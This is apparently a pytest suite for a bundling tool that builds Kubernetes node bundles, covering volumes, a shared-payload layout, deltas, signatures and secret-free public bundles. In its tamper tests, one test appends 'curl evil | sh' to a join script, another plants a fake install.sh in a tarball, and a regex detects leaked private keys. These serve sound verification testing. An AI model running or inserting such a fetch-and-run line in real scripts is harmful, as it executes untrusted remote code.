"""Media: volumes, the layout `split`, deltas, and bundles without secrets."""

import hashlib
import io
import json
import re
import shutil
import subprocess
import sys
import tarfile
import time
from pathlib import Path

import pytest
from support.command import run_bundler
from support.projects import open_plan
from support.small_builds import SmallSite, make_site, read_manifest, unpack

from bundler.bundle.layout import Layout, Media, is_in_base
from bundler.bundle.signing import generate_key
from bundler.bundle.verify import compare, verify
from bundler.cache.payload import Payload
from bundler.errors import ConfigError, OutputError
from bundler.formats.volumes import open_joined
from bundler.project import load
from bundler.render.bundle_manifest import (
    ContentSource,
    identify,
    make_header,
    parse_manifest,
)
from bundler.render.context import STATE_NAMES, _make_state_values, make_unknown
from bundler.render.tree import File

SPLIT = Media(layout=Layout.SPLIT)
PUBLIC = Media(public_only=True)
PEM = rb"PRIVATE KEY-----|-----BEGIN CERTIFICATE-----\s*[A-Za-z0-9+/]{64}"


@pytest.fixture(scope="session")
def built(tmp_path_factory: pytest.TempPathFactory) -> SmallSite:
    """dist (whole), shared (split), volumes, public; etcd and nothing else changes in `changed`."""
    site = make_site(tmp_path_factory.mktemp("site"))
    site.build("dist")
    site.build("shared", SPLIT)
    site.build("public", PUBLIC)
    site.build("volumes", Media(split=60_000))
    site.change("etcd")
    site.build("changed", Media(since=(str(site.directory / "dist"),)))
    site.build("changed-whole")
    return site


@pytest.fixture
def site(built: SmallSite, tmp_path: Path) -> SmallSite:
    """One's own copy."""
    shutil.copytree(built.directory, tmp_path / "site")
    return SmallSite(tmp_path / "site")


def run(*arguments: str | Path) -> subprocess.CompletedProcess[str]:
    return run_bundler(
        [*map(str, arguments)],
        capture_output=True, text=True, check=False,
    )  # fmt: skip


def files_of(manifest: list[str]) -> list[str]:
    return [line for line in manifest if not line.startswith("#")]


def faults_of(directory: Path) -> list[str]:
    return [fault for verdict in verify(directory) for fault in verdict.faults]


# manifests


def test_a_manifest_is_read_back_with_the_source_of_every_file() -> None:
    lines = b"ab 0755 12 rootfs/x\ncd 0644 1 node.env\n"
    header = make_header(
        {"rootfs/x": ContentSource.BASE, "images/1": ContentSource.PAYLOAD}, base="12", payload="34"
    )
    manifest = parse_manifest(header + lines, "a test")
    assert (manifest.base, manifest.payload) == ("12", "34")
    assert manifest.absent == {"rootfs/x": ContentSource.BASE, "images/1": ContentSource.PAYLOAD}
    assert [(e.path, e.mode, e.size) for e in manifest.entries] == [
        ("rootfs/x", 0o755, 12), ("node.env", 0o644, 1),
    ]  # fmt: skip
    assert manifest.identity == identify(lines) == hashlib.sha256(lines).hexdigest()
    assert make_header({}) == b""


@pytest.mark.parametrize("content", [b"nothing", b"# from-moon x", b"ab 9 12 x", b"\xff", b"# x"])
def test_a_file_that_is_not_a_manifest_is_refused(content: bytes) -> None:
    with pytest.raises(OutputError, match="not the MANIFEST of a bundle"):
        parse_manifest(content, "a test")


# volumes


def test_volumes_join_to_the_bundles_and_verify_without_joining(
    built: SmallSite,
) -> None:
    directory = built.directory / "volumes"
    with open_joined(directory / "small-one.tar.gz") as file:
        assert file.read() == (built.directory / "dist/small-one.tar.gz").read_bytes()
    subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=directory, check=True)
    assert "join.sh" in (directory / "SHA256SUMS").read_text()
    assert faults_of(directory) == []
    assert (directory / "small-one.tar.gz.001").stat().st_mode & 0o777 == 0o600


def test_verify_names_each_bad_volume(site: SmallSite) -> None:
    directory = site.directory / "volumes"
    volumes = sorted(directory.glob("small-one.tar.gz.0*"))
    volumes[0].unlink()
    volumes[1].write_bytes(volumes[1].read_bytes()[:-1] + b"?")
    shutil.copy(volumes[1], directory / "small-one.tar.gz.099")
    faults = "\n".join(faults_of(directory))
    assert "small-one.tar.gz.001: missing" in faults
    assert "small-one.tar.gz.002: its digest is" in faults
    assert "small-one.tar.gz.099: not in SHA256SUMS" in faults


def test_inspect_reads_volumes(built: SmallSite) -> None:
    done = run("inspect", built.directory / "volumes/small-one.tar.gz.002")
    assert done.returncode == 0, done.stderr
    assert re.search(r"^node +one$", done.stdout, re.MULTILINE)


def test_a_build_without_volumes_removes_former_volumes(site: SmallSite) -> None:
    site.build("volumes")
    names = {path.name for path in (site.directory / "volumes").iterdir()}
    assert names == {f"small-{n}.tar.gz" for n in ("one", "two", "three")} | {
        "RUNBOOK.md",
        "SHA256SUMS",
    }


def test_a_bad_size_is_refused_before_the_build_starts(site: SmallSite) -> None:
    done = run("build", *site.arguments, "-o", site.directory / "new", "--split", "4,4G")
    assert (done.returncode, "--split 4,4G: not a size" in done.stderr) == (2, True)
    assert not (site.directory / "new").exists()


@pytest.mark.parametrize("moment", [0.8, 1.0, 1.2, 1.4])
def test_the_next_build_completes_one_that_was_killed(site: SmallSite, moment: float) -> None:
    output = site.directory / "volumes"
    command = [Path(sys.executable).parent / "bundler", "build", *site.arguments, "-o", output]
    options = ["--split", "3K", "--layout", "split"]
    with subprocess.Popen(
        [*command, *options], stderr=subprocess.DEVNULL, stdout=subprocess.DEVNULL
    ) as build:
        time.sleep(moment)
        build.kill()
    if (output / "SHA256SUMS").exists():  # killed before it began to write, or after its end
        assert faults_of(output) == []
    done = run("build", *site.arguments, "-o", output, *options)
    assert done.returncode == 0, done.stderr
    assert faults_of(output) == []
    fresh = site.build("fresh", Media(layout=Layout.SPLIT, split=3_000))
    assert {p.name: p.read_bytes() for p in output.iterdir()} == {
        p.name: p.read_bytes() for p in fresh.iterdir()
    }


# the layout `split`


def test_split_holds_each_large_file_once_and_names_every_file(built: SmallSite) -> None:
    full, split = built.directory / "dist", built.directory / "shared"
    (payload,) = split.glob("payload-*.tar")
    for node in ("one", "two", "three"):
        manifest = read_manifest(split / f"small-{node}.tar.gz")
        assert files_of(manifest) == read_manifest(full / f"small-{node}.tar.gz")
        assert f"# payload {payload.stem.removeprefix('payload-')}" in "\n".join(manifest)
        assert not list((unpack(split / f"small-{node}.tar.gz", split / "x")).rglob("kubelet"))
    shutil.rmtree(split / "x")
    with tarfile.open(payload) as tar:
        names = tar.getnames()
    assert len(names) == len(set(names))
    assert names[0] == f"{payload.stem}/SHA256SUMS"
    assert faults_of(split) == []


def test_plain_tools_read_the_payload(built: SmallSite, tmp_path: Path) -> None:
    (payload,) = (built.directory / "shared").glob("payload-*.tar")
    subprocess.run(["tar", "-xf", payload, "-C", tmp_path], check=True)
    folder = tmp_path / payload.stem
    sums = (folder / "SHA256SUMS").read_bytes()
    assert f"payload-{hashlib.sha256(sums).hexdigest()[:16]}" == payload.stem
    subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=folder, check=True)
    for member in folder.glob("*.tar.gz"):
        subprocess.run(["tar", "-xzf", member, "-C", tmp_path], check=True)
        content = (tmp_path / member.name.removesuffix(".tar.gz")).read_bytes()
        assert f"{hashlib.sha256(content).hexdigest()}.tar.gz" == member.name


def test_split_is_the_same_bytes_twice_and_its_payload_needs_no_state(site: SmallSite) -> None:
    first = (site.directory / "changed").parent
    one = site.build("a", SPLIT)
    two = site.build("b", SPLIT)
    assert (one / "SHA256SUMS").read_bytes() == (two / "SHA256SUMS").read_bytes()
    shutil.rmtree(first / "small.state")
    public = site.build("c", Media(layout=Layout.SPLIT, public_only=True))
    (ours,), (theirs,) = one.glob("payload-*"), public.glob("payload-*")
    assert ours.name == theirs.name
    assert ours.read_bytes() == theirs.read_bytes()
    assert not (first / "small.state").exists()


def test_verify_reports_a_damaged_missing_or_other_payload(site: SmallSite) -> None:
    directory = site.directory / "shared"
    (payload,) = directory.glob("payload-*.tar")
    whole = payload.read_bytes()
    payload.write_bytes(whole[:-2000])
    assert f"{payload.name}: its digest is" in "\n".join(faults_of(directory))
    payload.unlink()
    faults = "\n".join(faults_of(directory))
    assert f"{payload.name}: missing" in faults
    assert f"small-one.tar.gz: {payload.name} is missing or damaged" in faults


def test_verify_checks_the_members_of_a_payload(site: SmallSite) -> None:
    directory = site.directory / "shared"
    (payload,) = directory.glob("payload-*.tar")
    before = hashlib.sha256(payload.read_bytes()).hexdigest()
    content = bytearray(payload.read_bytes())
    with tarfile.open(payload) as tar:
        content[tar.getmembers()[-1].offset_data + 20] ^= 1
    payload.write_bytes(content)
    sums = (directory / "SHA256SUMS").read_text()
    after = hashlib.sha256(content).hexdigest()
    (directory / "SHA256SUMS").write_text(sums.replace(before, after))
    faults = "\n".join(faults_of(directory))
    assert re.search(r"payload-\w+\.tar: \w{64}\.tar\.gz: differs from SHA256SUMS", faults)
    assert re.search(r"small-one\.tar\.gz: \S+: not in payload-", faults)


def test_inspect_reads_a_payload_and_names_the_source_of_files(site: SmallSite) -> None:
    directory = site.directory / "shared"
    (payload,) = directory.glob("payload-*.tar")
    done = run("inspect", payload, "--json")
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert report["facts"]["PAYLOAD"].startswith(payload.stem.removeprefix("payload-"))
    done = run("inspect", directory / "small-one.tar.gz")
    assert re.search(r"rootfs/opt/k8s/bin/kubelet \(in the payload\)$", done.stdout, re.MULTILINE)
    assert re.search(
        r"^payload +payload-\w+\.tar \(holds \d+ files of this bundle\)$", done.stdout, re.MULTILINE
    )
    listed = json.loads(run("inspect", directory / "small-one.tar.gz", "--json").stdout)
    sources = listed["elsewhere"]
    digests = {f["sha256"] for f in listed["files"] if sources.get(f["path"]) == "payload"}
    assert digests <= set(report["files"])
    payload.write_bytes(payload.read_bytes()[:-20_000])
    done = run("inspect", payload)
    assert done.returncode == 6


def test_an_older_payload_in_the_directory_is_reported(site: SmallSite) -> None:
    done = run("build", *site.arguments, "-o", site.directory / "shared", "--layout", "split")
    assert done.returncode == 0, done.stderr
    assert re.search(r"payload-\w+\.tar is not part of this build", done.stderr)
    assert len(list((site.directory / "shared").glob("payload-*.tar"))) == 2


def test_split_layout_in_volumes(site: SmallSite) -> None:
    directory = site.build("both", Media(layout=Layout.SPLIT, split=5_000))
    assert list(directory.glob("payload-*.tar.001"))
    assert faults_of(directory) == []


# deltas


def test_a_delta_holds_what_changed_and_names_its_base(built: SmallSite) -> None:
    delta, whole, old = (built.directory / name for name in ("changed", "changed-whole", "dist"))
    manifest = read_manifest(delta / "small-one.tar.gz")
    assert files_of(manifest) == read_manifest(whole / "small-one.tar.gz")
    base = "\n".join(read_manifest(old / "small-one.tar.gz")) + "\n"
    assert manifest[0] == f"# base {hashlib.sha256(base.encode()).hexdigest()}"
    bundle = unpack(delta / "small-one.tar.gz", delta / "x")
    large = {p.name for p in bundle.rglob("*") if p.is_file() and p.read_bytes()[:4] == b"\x7fELF"}
    shutil.rmtree(delta / "x")
    assert large == {"etcd", "etcdctl", "etcdutl"}
    layers = [
        line for line in manifest if line.startswith("# from-base rootfs/opt/k8s/images/blobs")
    ]
    assert len(layers) == 2
    assert faults_of(delta) == []


def test_a_delta_leaves_out_packages_of_its_base(tmp_path: Path) -> None:
    def package(digest: str) -> File:
        content = Payload(sha256=digest, size=9, segment=tmp_path)
        return File(path="packages/one_1_amd64.deb", mode=0o644, content=content, origin="")

    base = parse_manifest(f"{64 * 'a'} 0644 9 packages/one_1_amd64.deb\n".encode(), "base")
    assert is_in_base(package(64 * "a"), base)
    assert not is_in_base(package(64 * "b"), base)
    assert not is_in_base(package(64 * "a"), None)


@pytest.mark.parametrize("form", ["directory", "bundle", "unpacked", "NODE=MANIFEST", "volumes"])
def test_a_base_can_be_given_in_many_forms(site: SmallSite, tmp_path: Path, form: str) -> None:
    bundle = unpack(site.directory / "dist/small-two.tar.gz", tmp_path)
    given = {
        "directory": site.directory / "dist",
        "bundle": site.directory / "dist/small-two.tar.gz",
        "unpacked": bundle,
        "NODE=MANIFEST": f"two={bundle}/MANIFEST",
        "volumes": site.directory / "volumes/small-two.tar.gz",
    }[form]
    directory = site.build("new", Media(since=(str(given),)))
    assert read_manifest(directory / "small-two.tar.gz")[0].startswith("# base ")
    others = read_manifest(directory / "small-three.tar.gz")[0].startswith("# base ")
    assert others == (form == "directory")


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("nowhere", "no such file or directory"),
        ("cache", "holds no bundle"),
        ("pause.tar", "does not name its node"),
        ("two=pause.tar", "not the MANIFEST of a bundle"),
        ("other", "has no node unknown"),
        ("public", "holds no bundle"),
        ("public/small-one.public.tar.gz", "was built with --public-only"),
        ("one=dist/small-two.tar.gz", "is the bundle of two"),
    ],
)
def test_a_file_that_is_not_a_base_is_refused(site: SmallSite, given: str, expected: str) -> None:
    (site.directory / "other").mkdir()
    (site.directory / "other/MANIFEST").write_text("ab 0644 1 x\n")
    (site.directory / "other/node.env").write_text("NODE='unknown'\n")
    node, equals, name = given.rpartition("=")
    with pytest.raises((ConfigError, OutputError), match=expected):
        site.build("new", Media(since=(f"{node}{equals}{site.directory / name}",)))
    assert not (site.directory / "new").exists()


def test_a_delta_of_a_delta_names_the_base_of_a_delta_of_the_complete_bundle(
    site: SmallSite,
) -> None:
    site.change("kubernetes-server")
    one = site.build("a", Media(since=(str(site.directory / "changed"),)))
    two = site.build("b", Media(since=(str(site.directory / "changed-whole"),)))
    assert (one / "SHA256SUMS").read_bytes() == (two / "SHA256SUMS").read_bytes()


def test_a_delta_in_the_layout_split_shares_only_what_changed(site: SmallSite) -> None:
    media = Media(layout=Layout.SPLIT, since=(str(site.directory / "dist"),))
    directory = site.build("new", media)
    (payload,) = directory.glob("payload-*.tar")
    with tarfile.open(payload) as tar:
        assert len(tar.getnames()) == 4  # the sums, etcd, etcdctl, etcdutl
    assert faults_of(directory) == []


# without secrets


def test_public_bundles_hold_no_secret_and_need_no_state(site: SmallSite) -> None:
    first = (site.directory / "public/SHA256SUMS").read_bytes()
    site.change("etcd")
    shutil.rmtree(site.directory / "small.state")
    shutil.rmtree(site.directory / "mirror")
    fresh = make_site(site.directory.parent / "elsewhere")
    assert (fresh.build("public", PUBLIC) / "SHA256SUMS").read_bytes() == first
    assert not (fresh.directory / "small.state").exists()
    for tarball in (fresh.directory / "public").glob("*.tar.gz"):
        bundle = unpack(tarball, fresh.directory / "x")
        texts = [path.read_bytes() for path in bundle.rglob("*") if path.is_file()]
        assert not [text for text in texts if re.search(PEM, text)]
        assert (bundle / "rootfs/etc/systemd/system/kubelet.service").is_file()
        executed = {"install.sh", "uninstall.sh", "verify.sh", "node.env"}
        assert executed <= {path.name for path in bundle.iterdir()}
        assert not (bundle / "state.env").exists()


def test_complete_and_public_bundles_have_the_same_public_files(built: SmallSite) -> None:
    done = run("verify", built.directory / "dist", "--public", built.directory / "public")
    assert done.returncode == 0, done.stderr
    assert (
        len(
            re.findall(
                r"^same  small-\w+\.tar\.gz  \d+ files, \d+ left out$", done.stdout, re.MULTILINE
            )
        )
        == 3
    )
    lines = read_manifest(built.directory / "public/small-two.public.tar.gz")
    whole = read_manifest(built.directory / "dist/small-two.tar.gz")
    assert set(files_of(lines)) < set(whole)
    left_out = {line.split()[2] for line in lines if line.startswith("# from-state")}
    more = set(whole) - set(lines)
    assert {line.split()[3] for line in more} == left_out
    assert {line.split()[1] for line in more} <= {"0600", "0644"}
    assert not [path for path in left_out if "/systemd/" in path or path.endswith(".sh")]
    assert "rootfs/etc/kubernetes/bootstrap.kubeconfig" in left_out
    assert "rootfs/etc/cni/net.d/10-bridge.conflist" in left_out  # a pod subnet: by the state


def faults_beside(whole: Path, public: Path) -> list[str]:
    """What `verify WHOLE --public PUBLIC` finds by comparing."""
    verdicts = compare(whole, tuple(verify(whole)), tuple(verify(public)))
    return [fault for verdict in verdicts for fault in verdict.faults]


def sign_off(directory: Path) -> None:
    """SHA256SUMS anew, as somebody would write it who changed files."""
    paths = sorted(path for path in directory.iterdir() if path.name != "SHA256SUMS")
    lines = (f"{hashlib.sha256(path.read_bytes()).hexdigest()}  {path.name}\n" for path in paths)
    (directory / "SHA256SUMS").write_text("".join(lines))


def test_a_file_added_to_complete_bundles_is_found(site: SmallSite) -> None:
    assert faults_beside(site.directory / "changed-whole", site.directory / "public") == [
        f"small-one.tar.gz: rootfs/opt/k8s/bin/{name}: differs from the one in the bundle without secrets"
        for name in ("etcd", "etcdctl", "etcdutl")
    ]
    done = run("verify", site.directory / "changed-whole", "--public", site.directory / "public")
    assert done.returncode == 6


def test_every_file_of_a_directory_is_compared(site: SmallSite) -> None:
    whole, public = site.directory / "volumes", site.directory / "public"
    assert faults_beside(whole, public) == []
    with (whole / "join.sh").open("a") as script:
        script.write("curl evil | sh\n")
    shutil.copy(site.directory / "dist/small-one.tar.gz", whole / "small-four.tar.gz")
    (whole / "extra.sh").write_text("evil")
    sign_off(whole)
    assert sorted(faults_beside(whole, public)) == [
        f"{name}: the second build does not have it"
        for name in ("extra.sh", "join.sh", "small-four.tar.gz")
    ]
    done = run("verify", whole, "--public", public)
    assert "RUNBOOK.md: cannot be compared" in done.stderr


def test_bundles_are_not_compared_with_themselves(built: SmallSite) -> None:
    dist = built.directory / "dist"
    assert faults_beside(dist, dist) == [
        f"small-{node}.tar.gz: the second build does not have it"
        for node in ("one", "three", "two")
    ]
    assert compare(dist, (), tuple(verify(built.directory / "public")))
    (missing, *_) = compare(dist, (), tuple(verify(built.directory / "public")))
    assert missing.faults == ("small-one.tar.gz: this bundle is missing, or has faults",)


def test_a_second_directory_in_a_bundle_does_not_hide_the_first(site: SmallSite) -> None:
    """tar unpacks both; whoever drops folders' names would see the honest file only."""
    path = site.directory / "dist/small-one.tar.gz"
    with tarfile.open(path) as old:
        members = [(m, old.extractfile(m)) for m in old.getmembers()]
        with tarfile.open(path.with_name("new.tar.gz"), "w:gz") as new:
            for member, content in members:
                if member.name == "small-one/install.sh":
                    evil = tarfile.TarInfo(member.name)
                    evil.size = 4
                    new.addfile(evil, io.BytesIO(b"evil"))
                    member.name = "x/install.sh"
                new.addfile(member, content)
    path.with_name("new.tar.gz").replace(path)
    sign_off(path.parent)
    done = run("verify", path.parent, "--public", site.directory / "public")
    assert done.returncode == 6
    assert "'x/install.sh' is not in the folder 'small-one'" in done.stderr


@pytest.mark.parametrize("name", ["join.sh", "extra.deb", "small-zzz.tar", "folder/"])
def test_a_file_that_is_not_in_sha256sums_is_a_fault(site: SmallSite, name: str) -> None:
    stranger = site.directory / "dist" / name
    if name.endswith("/"):
        stranger.mkdir()
    else:
        stranger.write_text("x")
    assert faults_of(site.directory / "dist") == [f"{stranger.name}: not in SHA256SUMS"]


@pytest.mark.parametrize("text", ["", "garbage\n", f"{64 * 'a'}  ../x\n", f"{64 * 'a'} x\n"])
def test_a_file_that_is_not_a_list_of_digests_is_refused(tmp_path: Path, text: str) -> None:
    (tmp_path / "SHA256SUMS").write_text(text)
    with pytest.raises(OutputError, match="`bundler build` did not write this list"):
        faults_of(tmp_path)


def test_an_added_or_missing_file_is_found(tmp_path: Path) -> None:
    from bundler.bundle.verify import Verdict

    public = parse_manifest(b"# from-state secret\nab 0644 1 x\nab 0644 1 y\n", "public")
    whole = parse_manifest(b"ab 0644 1 x\nab 0644 1 secret\nab 0755 9 evil\n", "whole")
    (verdict,) = compare(
        tmp_path,
        [Verdict(name="a.tar.gz", manifest=whole)],
        [Verdict(name="a.public.tar.gz", manifest=public)],
    )
    assert verdict.faults == (
        "a.tar.gz: y: only in the bundle without secrets",
        "a.tar.gz: evil: is not a secret, but is missing in the bundle without secrets",
    )


def test_public_only_and_since_exclude_each_other(site: SmallSite) -> None:
    done = run("build", *site.arguments, "--public-only", "--since", site.directory / "dist")
    assert (done.returncode, "exclude each other" in done.stderr) == (2, True)


def test_no_name_from_the_state_is_needed_without_it(
    site: SmallSite, monkeypatch: pytest.MonkeyPatch
) -> None:
    with open_plan(load(site.inputs).cluster, site.inputs) as (plan, secrets):
        assert set(_make_state_values(plan, plan.nodes[0], secrets)) == set(STATE_NAMES)
    with pytest.raises(Exception, match="tokens is in the state directory"):
        str(make_unknown("tokens"))


# all together


def test_signatures_cover_volumes_payloads_and_deltas(site: SmallSite) -> None:
    key = site.directory / "release.key"
    public = generate_key(key)
    media = Media(
        layout=Layout.SPLIT, split=5_000, since=(f"one={site.directory}/dist/small-one.tar.gz",)
    )
    directory = site.build("signed", media, sign=key)
    done = run("verify", directory, "--trust", public)
    assert done.returncode == 0, done.stderr
    assert "in the payload" in done.stdout


@pytest.mark.parametrize(
    ("arguments", "expected"),
    [
        ([], ["write   DIST/small-one.tar.gz"]),
        (
            ["--split", "650M"],
            [
                "write   DIST/small-one.tar.gz; in volumes .001 … with join.sh if larger than 650000000 bytes"
            ],
        ),
        (
            ["--layout", "split"],
            ["write   DIST/payload-DIGEST.tar", "write   DIST/small-one.tar.gz"],
        ),
        (["--since", "OLD"], ["write   DIST/small-one.tar.gz, a delta to the bundle "]),
        (["--public-only"], ["write   DIST/small-one.public.tar.gz"]),
    ],
    ids=["whole", "volumes", "split", "since", "public"],
)
def test_a_dry_run_names_the_files_that_a_build_would_write(
    site: SmallSite, arguments: list[str], expected: list[str]
) -> None:
    output = site.directory / "new"
    given = [str(site.directory / "dist") if word == "OLD" else word for word in arguments]
    done = run("build", *site.arguments, "-o", output, "--dry-run", *given)
    assert done.returncode == 0, done.stderr
    for line in expected:
        assert line.replace("DIST", str(output)) in done.stdout
    assert ("small.state" in done.stdout) == (arguments != ["--public-only"])
    assert not output.exists()
